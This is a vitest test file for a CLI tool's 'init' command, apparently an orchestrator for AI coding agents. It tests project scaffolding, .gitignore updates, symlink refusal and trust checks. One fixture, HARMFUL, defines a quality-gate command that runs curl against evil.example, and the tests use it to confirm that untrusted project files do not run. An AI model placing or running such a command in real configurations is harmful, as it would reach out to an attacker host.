import { existsSync, mkdirSync, readdirSync, symlinkSync } from 'node:fs';
import { basename, join } from 'node:path';
import { expect, test } from 'vitest';
import { readShippedApproval } from '../../adapters/disk/shipped-config.ts';
import { SHIPPED_APPROVALS } from '../../domain/judge/approval-type.ts';
import { HelixFile } from '../../domain/plan/helix-file.ts';
import { PhasesFile } from '../../domain/plan/phases-file.ts';
import { parseYaml } from '../../text/yaml/yaml.ts';
import { makePlace } from '../helix.fixture.ts';
import { helixYaml, LANGUAGES } from './project-texts.ts';
import { writeProject } from './write-project.ts';

const HARMFUL =
  'phases:\n  - id: a\n    type: test\n    quality_gate: { type: custom, command: [curl, evil.example] }\n';

const FILES = ['phases.yaml', 'helix.yaml', '.gitignore'];

test('init makes a project called like its directory, ready to be checked and run', async () => {
  const place = makePlace();
  const { code, out, err } = await place.helix(['init']);
  expect(code).toBe(0);
  expect(out).toMatch(/^made +phases[.]yaml$/m);
  expect(err).toContain('helix plan');
  const phases = place.read('phases.yaml');
  expect(phases).toMatch(/^# yaml-language-server: [$]schema=[.]helix\/schemas\/phases[.]schema[.]json\n/);
  expect(PhasesFile.parse(parseYaml(phases, 'phases.yaml').value)).toMatchObject({
    project: { name: basename(place.dir), type: 'feature' },
    workspace: 'phase-dirs',
  });
  expect(err).toContain('note     this is no git repository');
  expect(place.read('.gitignore')).toBe('.helix/\n');
  for (const name of ['phases', 'helix', 'approvals', 'escalation']) {
    expect(place.read(`.helix/schemas/${name}.schema.json`)).toBe((await place.helix(['schema', name])).out);
  }
  expect(readdirSync(place.dir).sort()).toEqual(['.gitignore', '.helix', 'helix.yaml', 'phases.yaml']);
  const plan = await place.helix(['plan']);
  expect({ code: plan.code, err: plan.err }).toEqual({ code: 0, err: '' });
  expect(plan.out).not.toContain('config/');
});

test('init makes the directory it is given', async () => {
  const place = makePlace();
  expect((await place.helix(['init', 'a/b'])).code).toBe(0);
  expect(place.read('a/b/phases.yaml')).toContain('name: b\n');
});

test('what init wrote is trusted, what was there before is not', async () => {
  const place = makePlace();
  await place.helix(['init']);
  expect((await place.helix(['trust'])).out).toBe('  agent default: claude-code\n');
  mkdirSync(join(place.dir, 'cloned'));
  place.write('cloned/phases.yaml', HARMFUL);
  const { code, out, err } = await place.helix(['init', 'cloned']);
  expect(code).toBe(0);
  expect(out).toMatch(/^kept +phases[.]yaml$/m);
  expect(err).toContain('helix trust');
  const run = await place.helix(['run', 'cloned', '--agent', 'scripted']);
  expect(run.code).toBe(2);
  expect(run.err).toContain('you have not trusted this project yet');
});

test("init never takes over a project type of the directory's own, since it trusts what it writes", async () => {
  const place = makePlace();
  mkdirSync(join(place.dir, 'templates/project-types'), { recursive: true });
  place.write('templates/project-types/feature.yaml', HARMFUL);
  await place.helix(['init']);
  expect(place.read('phases.yaml')).not.toContain('curl');
});

test('no file is overwritten, and a second init changes nothing', async () => {
  const place = makePlace();
  place.write('helix.yaml', 'language: fr\n');
  await place.helix(['init']);
  expect(place.read('helix.yaml')).toBe('language: fr\n');
  const before = FILES.map(place.read);
  const { code, out } = await place.helix(['init', '--lang', 'de']);
  expect(code).toBe(0);
  expect(out).toBe(FILES.map((path) => `kept     ${path}\n`).join(''));
  expect(FILES.map(place.read)).toEqual(before);
});

test.each([
  ['node_modules/\n', 'node_modules/\n.helix/\n'],
  ['no newline', 'no newline\n.helix/\n'],
  ['a\r\nb\r\n', 'a\r\nb\r\n.helix/\r\n'],
  ['', '.helix/\n'],
  ['x\n/.helix\ny\n', 'x\n/.helix\ny\n'],
  ['.helix/\r\n', '.helix/\r\n'],
  ['not/.helix/\n', 'not/.helix/\n.helix/\n'],
])('a .gitignore with %j becomes %j', (before, after) => {
  const place = makePlace();
  place.write('.gitignore', before);
  writeProject(place.dir, {});
  expect(place.read('.gitignore')).toBe(after);
});

test('a link that leaves the project is not written through', async () => {
  const place = makePlace();
  mkdirSync(join(place.dir, 'project'));
  mkdirSync(join(place.dir, 'elsewhere'));
  symlinkSync('../elsewhere/target', join(place.dir, 'project/helix.yaml'));
  symlinkSync('../elsewhere', join(place.dir, 'project/.helix'));
  const { code, err } = await place.helix(['init', 'project']);
  expect(code).toBe(2);
  expect(err).toContain('is a symbolic link');
  expect(existsSync(join(place.dir, 'elsewhere/target'))).toBe(false);
  expect(existsSync(join(place.dir, 'elsewhere/schemas'))).toBe(false);
  mkdirSync(join(place.dir, 'linked'));
  symlinkSync('../elsewhere', join(place.dir, 'linked/approvals'));
  expect(await place.helix(['init', 'linked', '--approvals'])).toMatchObject({
    code: 2,
    err: expect.stringContaining('approvals is a symbolic link'),
  });
  expect(readdirSync(join(place.dir, 'elsewhere'))).toEqual([]);
});

test('a file in the way is named', async () => {
  const place = makePlace();
  place.write('taken', '');
  const { code, err } = await place.helix(['init', 'taken']);
  expect(code).toBe(2);
  expect(err).toContain('taken');
});

test.each(LANGUAGES)('helix.yaml in %s explains every key, and what it shows in comments is right', (language) => {
  const shown = helixYaml(language).replaceAll(/^( *)# ?( *(?:- )?[a-z_]+:(?: .*)?)$/gm, (line, indent, entry) =>
    /^ *driver: claude-code, /.test(entry) ? line : `${indent}${entry}`,
  );
  const value = HelixFile.parse(parseYaml(shown, 'helix.yaml').value);
  expect(Object.keys(value).sort()).toEqual(Object.keys(HelixFile.shape).sort());
  expect(value).toMatchObject({
    language,
    agents: { default: { driver: 'claude-code' }, trial: { driver: 'scripted' } },
  });
});

test('with --approvals it copies what judges are told, of the types that are named or of all', async () => {
  const place = makePlace();
  const { code, out } = await place.helix(['init', 'backend', '--approvals', 'code', 'adr']);
  expect(code).toBe(0);
  expect(out).toMatch(/^made +approvals\/code\/CLAUDE[.]md$/m);
  expect(readdirSync(join(place.dir, 'backend/approvals')).sort()).toEqual(['adr', 'code']);
  const shipped = readShippedApproval('code');
  expect(place.read('backend/approvals/code/checks/tests.md')).toBe(shipped?.get('checks/tests.md'));
  expect(existsSync(join(place.dir, 'backend/approvals/code/defects.yaml'))).toBe(false);
  expect((await place.helix(['init', '--approvals'])).code).toBe(0);
  expect(readdirSync(join(place.dir, 'approvals')).sort()).toEqual([...SHIPPED_APPROVALS].sort());
  const wrong = await place.helix(['init', '.', '--approvals', 'cod']);
  expect(wrong.code).toBe(2);
  expect(wrong.err).toContain('did you mean "code"?');
  expect((await place.helix(['init', 'a', 'b'])).code).toBe(2);
});

test('an unknown language is refused', async () => {
  const { code, err } = await makePlace().helix(['init', '--lang', 'fr']);
  expect(code).toBe(2);
  expect(err).toContain('en, de');
});

test('help shows usage and examples', async () => {
  const { code, out } = await makePlace().helix(['init', '--help']);
  expect(code).toBe(0);
  expect(out).toContain('helix init backend --lang de');
});
